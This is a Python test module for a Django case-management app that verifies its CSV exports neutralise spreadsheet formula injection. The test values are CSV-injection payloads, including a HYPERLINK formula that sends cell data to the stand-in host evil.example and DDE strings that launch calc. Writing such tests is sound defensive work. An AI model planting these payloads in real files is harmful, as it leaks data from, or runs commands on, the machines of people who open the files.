"""CSV exports cannot carry a formula into a spreadsheet (ASVS 5.3.10 / CSV injection), and
there is no other file the application writes as CSV or reads as an upload.

Every text a user can type that reaches an export is given a value that a
spreadsheet would run (= + - @ tab CR at the start); every cell of the file
must then start with something else, and each value must still be there,
behind the apostrophe that makes it text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from cases.models import Agreement
from interventions.models import FollowUpFlag, Mentor
from tests.conftest import login
from tests.outcomes.test_dashboard import store_everything, team_world  # noqa: F401 (a fixture)

ROOT = Path(__file__).resolve().parents[2]
APPS = ("accounts", "cases", "interventions", "outcomes", "youthcase")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# The CSV responses of the application, each proven safe by a test in this module.
CSV_EXPORTS = {
    "outcomes/dashboard/views.py": "outcomes:dashboard_export",
    "cases/views/audit.py": "cases:access_report_csv",
}


def _app_sources() -> dict[str, str]:
    return {
        str(path.relative_to(ROOT)): path.read_text()
        for app in APPS
        if (ROOT / app).is_dir()
        for path in (ROOT / app).rglob("*.py")
        if "migrations" not in path.parts
    }


def test_every_csv_response_is_one_this_module_checks():
    sources = _app_sources()
    answering_csv = sorted(path for path, text in sources.items() if re.search(r"text/csv|\.csv\b.*Response", text))
    assert answering_csv == sorted(CSV_EXPORTS), "a new CSV export needs its formula test here"


def test_no_view_reads_an_uploaded_file():
    # Uploads would need type, size and content checks (ASVS 12.1-12.2); there are none to check.
    sources = _app_sources()
    uploads = sorted(
        path for path, text in sources.items() if re.search(r"request\.FILES|FileField|ImageField|FILE_UPLOAD", text)
    )
    assert uploads == []


@pytest.mark.django_db
def _cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8").lstrip("\ufeff"))) for cell in row]


def test_dashboard_export_escapes_formulas_in_every_column(world, team_world):  # noqa: F811
    injected = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
        "worker": "+cmd|' /C calc'!A0",
        "agreement": "-2+3",
        "flag": "@SUM(1+1)*cmd|' /C calc'!A0",
        "mentor": "\t=1+1",
        "name2": "\r=1+1",
    }
    slipped = team_world["slipped"]
    slipped.young_person.name = injected["name"]
    slipped.young_person.save()
    team_world["new"].young_person.name = injected["name2"]
    team_world["new"].young_person.save()
    world.colleague.name = injected["worker"]  # primary worker of the slipped enrolment
    world.colleague.save()
    Agreement.objects.update(text=injected["agreement"])
    FollowUpFlag.objects.update(reason=injected["flag"])
    Mentor.objects.update(name=injected["mentor"])
    store_everything(quarter_ends=False)

    response = login(world.leader).get(reverse(CSV_EXPORTS["outcomes/dashboard/views.py"], args=[world.team.pk]))

    cells = _cells(response)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    for what in ("name", "worker", "name2", "mentor"):
        assert "'" + injected[what] in cells, what
    for what in ("agreement", "flag"):  # inside a longer text ("Agreement: ...")
        assert any(injected[what] in cell for cell in cells), what


@pytest.mark.django_db
def test_access_report_export_escapes_formulas(world):
    # The only free text in a young person's access report is who read it: role and team name.
    world.team.name = '=HYPERLINK("http://evil.example/","Klik")'
    world.team.save()
    world.other_team.name = "@SUM(1+1)"
    world.other_team.save()
    client = login(world.worker)
    assert client.get(reverse("cases:young_person_detail", args=[world.young_person.pk])).status_code == 200
    response = client.get(reverse(CSV_EXPORTS["cases/views/audit.py"], args=[world.young_person.pk]))
    cells = _cells(response)
    assert any(world.team.name in cell for cell in cells)  # the reads are listed, with the team
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
